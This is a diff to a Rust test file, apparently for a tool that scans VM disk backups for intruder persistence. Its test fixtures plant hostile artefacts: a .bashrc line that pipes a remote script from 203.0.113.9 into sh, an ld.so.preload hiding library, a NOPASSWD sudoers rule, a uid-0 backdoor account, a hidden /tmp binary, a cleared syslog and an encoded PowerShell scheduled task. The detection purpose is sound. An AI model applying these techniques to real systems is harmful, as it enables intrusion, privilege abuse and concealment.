@@ -601,6 +601,107 @@ fn an_added_cron_job_ssh_key_and_setuid_binary_are_each_reported() {
 }
 
 /// One day of ordinary work on the guest.
+#[test]
+fn a_new_unit_preload_sudo_rule_accounts_profile_hook_temp_binary_and_cleared_log_are_reported() {
+    let env = Env::new("30d", &[]);
+    let root = env.path("root");
+    linux_root(&root, "2.36-9+deb12u3");
+    std::fs::create_dir_all(root.join("etc/sudoers.d")).unwrap();
+    std::fs::write(
+        root.join("etc/shadow"),
+        "root:*:19000:0:99999:7:::\nalice:!:19000:0:99999:7:::\n",
+    )
+    .unwrap();
+    std::fs::write(root.join("home/alice/.bashrc"), "alias ll='ls -l'\n").unwrap();
+    let img = env.path("disk.img");
+    gpt_ext4_image(&img, &root, 48);
+    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
+    let (code, _) = scan(&env, "vm@latest", &[]);
+    assert_eq!(code, Some(0));
+
+    // Day 2: the intruder settles in, and wipes the log behind them.
+    let put = |guest: &str, content: &[u8]| {
+        let local = env.path("upload");
+        std::fs::write(&local, content).unwrap();
+        debugfs_w(&img, &format!("write {} {guest}", local.display()));
+        std::fs::remove_file(&local).unwrap();
+    };
+    put(
+        "/etc/systemd/system/dbus-helper.service",
+        b"[Service]\nExecStart=/usr/local/bin/helper\n[Install]\nWantedBy=multi-user.target\n",
+    );
+    put(
+        "/etc/ld.so.preload",
+        b"/usr/lib/x86_64-linux-gnu/libhide.so\n",
+    );
+    put(
+        "/etc/sudoers.d/zz-maint",
+        b"maint ALL=(ALL) NOPASSWD: ALL\n",
+    );
+    let mut passwd = std::fs::read(root.join("etc/passwd")).unwrap();
+    passwd.extend_from_slice(
+        b"maint:x:1001:1001::/home/maint:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
+    );
+    replace_guest_file(&img, "/etc/passwd", &passwd);
+    replace_guest_file(
+        &img,
+        "/etc/shadow",
+        b"root:*:19000:0:99999:7:::\nalice:$6$salt$hashhashhash:19001:0:99999:7:::\n",
+    );
+    replace_guest_file(
+        &img,
+        "/home/alice/.bashrc",
+        b"alias ll='ls -l'\n(curl -s http://203.0.113.9/k | sh) >/dev/null 2>&1 &\n",
+    );
+    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
+    elf.extend_from_slice(&noise(30_000, 5));
+    put("/tmp/.cache-x", &elf);
+    debugfs_w(&img, "sif /tmp/.cache-x mode 0100755");
+    replace_guest_file(&img, "/var/log/syslog", b"");
+    env.run(&[
+        "backup",
+        img.to_str().unwrap(),
+        "--name",
+        "vm",
+        "--time",
+        "2026-01-02T00:00:00Z",
+    ]);
+
+    let (code, v) = scan(&env, "vm@latest", &[]);
+    assert_eq!(code, Some(3), "{v:#}");
+    let found = kinds(&v);
+    for (kind, path) in [
+        ("systemd", "/etc/systemd/system/dbus-helper.service"),
+        ("ld_preload", "/etc/ld.so.preload"),
+        ("sudoers", "/etc/sudoers.d/zz-maint"),
+        ("new_account", "/etc/passwd"),
+        ("uid0_account", "/etc/passwd"),
+        ("password_set", "/etc/shadow"),
+        ("shell_profile", "/home/alice/.bashrc"),
+        ("temp_executable", "/tmp/.cache-x"),
+        ("log_cleared", "/var/log/syslog"),
+    ] {
+        assert!(
+            found.contains(&(kind.to_string(), path.to_string())),
+            "{kind} {path} not reported: {v:#}"
+        );
+    }
+    let details: Vec<String> = v["persistence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["detail"].as_str().unwrap().to_string())
+        .collect();
+    let has = |s: &str| details.iter().any(|d| d.contains(s));
+    assert!(has("toor") && has("maint"), "{details:?}");
+    assert!(has("libhide.so"), "{details:?}");
+    assert!(has("203.0.113.9"), "{details:?}");
+    assert!(
+        !has("alias ll"),
+        "only the added line is quoted: {details:?}"
+    );
+}
+
 fn ordinary_day(img: &Path, day: u64) {
     replace_guest_file(
         img,
@@ -1010,12 +1111,12 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
         &bat,
         "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/updater.bat",
     );
+    // Task Scheduler writes its XML in UTF-16 with a byte-order mark.
     let task = env.path("task.xml");
-    std::fs::write(
-        &task,
-        "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc SQBFAFgA</Arguments></Exec></Actions></Task>",
-    )
-    .unwrap();
+    let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc SQBFAFgA</Arguments></Exec></Actions></Task>\r\n";
+    let mut utf16 = vec![0xff, 0xfe];
+    utf16.extend(xml.encode_utf16().flat_map(|u| u.to_le_bytes()));
+    std::fs::write(&task, utf16).unwrap();
     ntfs_put(&part, &task, "/Windows/System32/Tasks/SystemHealthCheck");
     // And the registry ways in: a Run value and an automatic service.
     hivexsh(
@@ -1057,6 +1158,12 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
     assert!(
         v["persistence"].to_string().contains("svc.exe"),
         "the added line is quoted"
+    );
+    assert!(
+        v["persistence"]
+            .to_string()
+            .contains("<Command>powershell.exe</Command><Arguments>-enc SQBFAFgA"),
+        "the task's command is quoted as text: {v:#}"
     );
     let details: Vec<&str> = v["persistence"]
         .as_array()
